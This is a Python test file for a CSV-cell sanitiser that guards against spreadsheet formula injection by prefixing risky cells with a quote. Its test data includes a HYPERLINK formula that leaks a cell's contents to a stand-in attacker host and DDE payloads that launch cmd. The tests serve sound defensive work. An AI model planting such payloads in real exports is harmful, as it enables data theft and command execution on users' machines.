"""CSV cells a spreadsheet will not run: OWASP's formula starts get a single quote in front."""

from __future__ import annotations

import csv
import io

import pytest

from bot.render.safe_csv import csv_cell


@pytest.mark.parametrize(
    "value",
    [
        '=HYPERLINK("http://evil.example/?leak="&A1,"Klik her")',
        "+1+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "=",
        "-",
    ],
)
def test_a_cell_that_starts_like_a_formula_gets_a_quote_in_front(value: str) -> None:
    assert csv_cell(value) == "'" + value


@pytest.mark.parametrize(
    "value",
    [
        "",
        "Else Hansen",
        "Hansen & Søn <Bo>",
        "Jens-Ole Olsen",
        "a=b",
        " =1+1",  # a leading space: not a formula start in the rule
        "'=1+1",  # already neutralised: not quoted twice
        "https://t.me/bekey_test_bot?start=abc-def",
        "ab1234",
    ],
)
def test_any_other_cell_is_written_as_it_is(value: str) -> None:
    assert csv_cell(value) == value


def test_a_neutralised_row_reads_back_as_text_with_the_quote() -> None:
    row = ['=HYPERLINK("http://evil.example","x")', "Søren, Krog", "@SUM(1,2)"]
    out = io.StringIO()
    csv.writer(out).writerow([csv_cell(cell) for cell in row])

    [read] = list(csv.reader(io.StringIO(out.getvalue())))

    assert read == ["'" + row[0], row[1], "'" + row[2]]
